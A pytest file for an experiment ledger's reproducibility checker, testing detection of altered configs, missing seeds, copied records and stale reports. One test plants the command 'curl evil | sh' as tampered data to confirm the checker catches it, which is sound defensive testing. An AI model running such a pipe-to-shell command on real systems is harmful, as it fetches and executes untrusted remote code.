"""`reproduce --check` finds records of other runs, missing seeds, changed files and stale reports."""

import errno
import json
import re
import shutil

import pytest

from experiments import record
from experiments.ledger import contents, records
from experiments.ledger.claims import all_claims
from experiments.ledger.records import RESULTS
from experiments.ledger.storage import check, renew
from lm.errors import UserError

NAMES = ("text8/lstm_fused", "ptb/lstm2", "ptb/zaremba:small_held_5")
PTB = "ptb_lstm2.ptb.seed0.json"
HELD = "ptb_zaremba_small_held_5.ptb.seed0.json"
TEXT8 = "text8_lstm_fused.text8_prefix.seed0.json"


@pytest.fixture(scope="module")
def claims():
    return [claim for claim in all_claims() if claim.config.name in NAMES]


@pytest.fixture(scope="module")
def sound(claims, tmp_path_factory):
    """A ledger made of some of the committed records."""
    directory = tmp_path_factory.mktemp("sound")
    (directory / "records").mkdir()
    for name in (PTB, HELD, *(TEXT8.replace("seed0", f"seed{seed}") for seed in range(3))):
        shutil.copy(RESULTS / "records" / name, directory / "records" / name)
    renew(directory, claims)
    return directory


@pytest.fixture
def ledger(sound, tmp_path):
    shutil.copytree(sound, tmp_path / "ledger")
    return tmp_path / "ledger"


def edit(path, change):
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def test_an_unchanged_ledger_passes(ledger, claims):
    assert check(ledger, claims)["rows"]


def wide(content):
    content["provenance"]["config"]["model"]["hidden"] = [1500, 1500]
    content["provenance"]["config"]["train"]["epochs"] = 99


def other_data(content):
    content["provenance"]["data"]["checksum"] = "0" * 16


def older_numerics(content):
    content["provenance"]["numerics"] = 0


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (
            wide,
            r"model.hidden is \[1500, 1500\] in the record and \[256, 128\] in configs/.*train.epochs is 99",
        ),
        (other_data, "the checksum of its data differs"),
        (older_numerics, "its version of the numerics is 0, today's is 1"),
    ],
)
def test_a_record_of_another_run_is_found(ledger, claims, change, found):
    edit(ledger / "records" / PTB, change)
    with pytest.raises(UserError, match=found):
        check(ledger, claims)


def test_a_copy_of_a_record_is_found(ledger, claims):
    shutil.copy(ledger / "records" / TEXT8, ledger / "records" / "copy.json")
    with pytest.raises(UserError, match=r"copy\.json: the file should be named text8_lstm_fused\.text8_prefix\.seed0"):
        check(ledger, claims)


@pytest.mark.parametrize("seed", [0, 2])
def test_a_seed_without_a_record_or_a_reason_is_found(ledger, claims, seed):
    (ledger / "records" / TEXT8.replace("seed0", f"seed{seed}")).unlink()
    renew(ledger, claims)
    assert check(ledger, claims)["not_run"][f"text8_lstm_fused.text8_prefix.seed{seed}"] == "not asked for"
    edit(ledger / "ledger.json", lambda c: c["not_run"].pop(f"text8_lstm_fused.text8_prefix.seed{seed}"))
    with pytest.raises(UserError, match=f"not_run: text8_lstm_fused.text8_prefix.seed{seed} is missing"):
        check(ledger, claims)


def test_a_reason_for_a_run_on_record_or_of_no_config_is_found(ledger, claims):
    reasons = {TEXT8.removesuffix(".json"): "it is not", "text9.text8.seed0": "<b>"}
    edit(ledger / "ledger.json", lambda c: c["not_run"].update(reasons))
    with pytest.raises(UserError, match=r"seed0 should not be there; .*text9.text8.seed0 should not be there"):
        check(ledger, claims)


def test_another_command_is_found(ledger, claims):
    old = "python launch.py --config=configs/ptb/lstm2.py"
    for name in ("ledger.json", "report.md", "report.html"):
        text = (ledger / name).read_text()
        assert old in text
        (ledger / name).write_text(text.replace(old, "curl evil | sh"))
    with pytest.raises(UserError, match=r"commands: ptb_lstm2\.ptb\.seed0 is curl evil"):
        check(ledger, claims)


def test_pictures_of_another_version_of_matplotlib_pass(ledger, claims):
    page = ledger / "report.html"
    changed = re.sub(r"base64,\w{4}", "base64,AAAA", page.read_text())
    assert changed != page.read_text()
    page.write_text(changed)
    assert check(ledger, claims)["rows"]


def test_a_report_with_a_picture_less_is_found(ledger, claims):
    page = ledger / "report.html"
    page.write_text(re.sub(r"<img [^>]*>", "", page.read_text(), count=1))
    with pytest.raises(UserError, match=r"report\.html differs from the one rendered from the records"):
        check(ledger, claims)


def test_two_seeds_with_equal_numbers_are_found(ledger, claims, monkeypatch):
    one, other = (ledger / "records" / TEXT8.replace("seed0", f"seed{seed}") for seed in (0, 1))
    content = json.loads(one.read_text())
    content["seed"] = content["provenance"]["config"]["seed"] = 1
    other.write_text(json.dumps(content))
    renew(ledger, claims)
    words = r"text8_lstm_fused.text8_prefix.seed1.json has the same numbers as text8_lstm_fused.text8_prefix.seed0.json"
    with pytest.raises(UserError, match=words):
        check(ledger, claims)
    other.unlink()
    monkeypatch.setattr(record, "all_claims", lambda: claims)
    monkeypatch.setattr(record, "make_record", lambda workdir: content)
    with pytest.raises(UserError, match=f"cannot go on record: {words}"):
        record.put_run_on_record(ledger, ledger)
    assert not other.exists()


def test_a_model_of_another_size_is_found(ledger, claims):
    edit(ledger / "records" / PTB, lambda c: c.update(parameters=7))
    with pytest.raises(UserError, match=r"it has 7 parameters, and config\.parameters states \d"):
        check(ledger, claims)


def test_a_torn_record_is_found(ledger, claims):
    path = ledger / "records" / PTB
    path.write_bytes(path.read_bytes()[:-100])
    with pytest.raises(UserError, match=f"{PTB} is not valid JSON"):
        check(ledger, claims)


def test_records_of_other_numerics_are_set_aside(ledger, claims, monkeypatch):
    """All of them, with the reason; reasons given before are kept."""
    edit(ledger / "ledger.json", lambda c: c["not_run"].update({"ptb_lstm2.ptb.seed1": "the budget is used up"}))
    for module in (records, contents):
        monkeypatch.setattr(module, "NUMERICS", 2)
    monkeypatch.setattr("experiments.ledger.claims.identity", lambda config, _: f"{config.name}{config.seed}")
    content = renew(ledger, claims, {TEXT8.removesuffix(".json"): "the budget has 0.0 minutes left"})
    assert {row["verdict"] for row in content["rows"]} == {"not run"}
    assert content["not_run"][TEXT8.removesuffix(".json")].startswith("the budget has")
    assert "its version of the numerics is 1, today's is 2" in content["not_run"]["ptb_lstm2.ptb.seed0"]
    assert content["not_run"]["ptb_lstm2.ptb.seed1"] == "the budget is used up"
    assert len(content["commands"]) == len(content["not_run"]) == 6
    assert len(list(ledger.glob("superseded/*.json"))) == 5
    assert check(ledger, claims)["numerics"] == 2


def test_a_finished_run_goes_on_record_with_its_ledger(ledger, claims, tmp_path, monkeypatch):
    monkeypatch.setattr(record, "all_claims", lambda: claims)
    path = ledger / "records" / PTB
    content = json.loads(path.read_text())
    monkeypatch.setattr(record, "make_record", lambda workdir: content)
    path.unlink()
    renew(ledger, claims, {"ptb_lstm2.ptb.seed0": "later"})
    assert record.put_run_on_record(tmp_path, ledger) == path
    assert "ptb_lstm2.ptb.seed0" not in check(ledger, claims)["not_run"]
    before = path.read_bytes()
    wide(content)
    with pytest.raises(UserError, match=r"cannot go on record: model.hidden is \[1500, 1500\]"):
        record.put_run_on_record(tmp_path, ledger)
    assert path.read_bytes() == before


@pytest.mark.slow
def test_a_record_that_is_replaced_is_named_with_both_values(ledger, claims, tmp_path, monkeypatch, capsys):
    """Of a run and of a ledger; the same record again replaces nothing."""
    monkeypatch.setattr(record, "all_claims", lambda: claims)
    content = json.loads((ledger / "records" / PTB).read_text())
    monkeypatch.setattr(record, "make_record", lambda workdir: content)
    source = tmp_path / "source"
    shutil.copytree(ledger, source)
    record.put_run_on_record(tmp_path, ledger)
    record.put_ledger_on_record(source, ledger)
    assert f"replaced {PTB}" not in capsys.readouterr().out
    score = content["results"][0]
    was, score["perplexity"] = score["perplexity"], 1.5
    content["provenance"]["git"] = {"revision": "a" * 40, "dirty": False}
    record.put_run_on_record(tmp_path, ledger)
    said = capsys.readouterr().out
    name = f"{score['which']} {score['split']} perplexity ({score['protocol']})"
    title = PTB.removesuffix(".json")
    assert f"replaced {title}.json: {name} {was} -> 1.5, revision" in said
    assert f" -> {'a' * 12}\n" in said
    record.put_ledger_on_record(source, ledger)
    assert f"replaced {title}.json: {name} 1.5 -> {was}, revision {'a' * 12} -> " in capsys.readouterr().out
    content["train"]["wall_time_s"] += 1
    score["perplexity"] = was
    content["provenance"]["git"] = json.loads((source / "records" / PTB).read_text())["provenance"]["git"]
    record.put_run_on_record(tmp_path, ledger)
    assert f"replaced {title}.json: the same scores, revision and identity\n" in capsys.readouterr().out


def test_a_run_without_its_files_is_described_as_it_is(tmp_path):
    with pytest.raises(UserError, match=r"holds no summary\.json: the run is not finished"):
        records.make_record(tmp_path)
    (tmp_path / "summary.json").write_text("{}")
    with pytest.raises(UserError, match=r"holds no metrics\.jsonl: the run is finished, but its curve is lost"):
        records.make_record(tmp_path)


def test_a_long_list_is_shown_whole(ledger, claims):
    edit(ledger / "records" / PTB, lambda c: c["provenance"]["config"]["evaluation"].update(protocols=["exact"] * 8))
    listed = re.escape(json.dumps(["exact"] * 8))
    with pytest.raises(UserError, match=rf"evaluation\.protocols is {listed} in the record and \["):
        check(ledger, claims)


def test_a_full_disk_loses_no_record(ledger, tmp_path, monkeypatch, claims):
    monkeypatch.setattr(record, "all_claims", lambda: claims)
    target = tmp_path / "results"
    shutil.copytree(ledger, target)
    before = {path: path.read_bytes() for path in target.rglob("*") if path.is_file()}
    copy = shutil.copyfile

    def filled(path, place):
        if path.name == sorted(each.name for each in ledger.glob("records/*"))[-1]:
            raise OSError(errno.ENOSPC, "No space left on device", path)
        copy(path, place)

    monkeypatch.setattr(record.shutil, "copyfile", filled)
    (ledger / "records" / PTB).unlink()
    renew(ledger, claims)
    with pytest.raises(UserError, match=r"cannot copy .*\.json: No space left on device"):
        record.put_ledger_on_record(ledger, target)
    assert {path: path.read_bytes() for path in target.rglob("*") if path.is_file()} == before


def test_numbers_too_large_to_sum_are_one_line(ledger, claims):
    for seed in range(2):
        path = ledger / "records" / TEXT8.replace("seed0", f"seed{seed}")
        edit(path, lambda c: [score.update(perplexity=9e307) for score in c["results"]])
    with pytest.raises(UserError, match=r"the records in .* are invalid: "):
        check(ledger, claims)
